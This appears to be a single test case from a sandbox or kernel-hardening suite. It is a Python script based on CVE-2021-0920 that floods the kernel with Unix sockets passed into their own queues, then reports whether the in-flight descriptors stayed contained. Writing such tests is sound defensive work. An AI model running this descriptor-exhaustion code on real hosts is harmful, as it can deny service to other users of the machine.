# Attack: 75, sockets that only lie in each other's queues
# Source: CVE-2021-0920 (Linux: garbage collection of sockets in flight)
# Tries: sends pairs of sockets into themselves and closes them, so that no process holds them and only the kernel could.
# Meets: the kernel collects such rings, and no more descriptors are in flight than one process may have open.
# Expect: contained
import array
import resource
import socket

most = resource.getrlimit(resource.RLIMIT_NOFILE)[0]
kept = []
in_flight = 0
try:
    while in_flight <= 4 * most:
        left, right = socket.socketpair()
        for _ in range(4):
            rights = array.array("i", [left.fileno(), right.fileno()] * 60)
            left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
            in_flight += len(rights)
        kept.append(left)
except OSError:
    pass
for _ in range(2000):
    left, right = socket.socketpair()
    rights = array.array("i", [left.fileno(), right.fileno()])
    try:
        left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
    except OSError:
        break
    left.close()
    right.close()
print(f"ESCAPED: {in_flight} in flight" if in_flight > 2 * most else "contained")
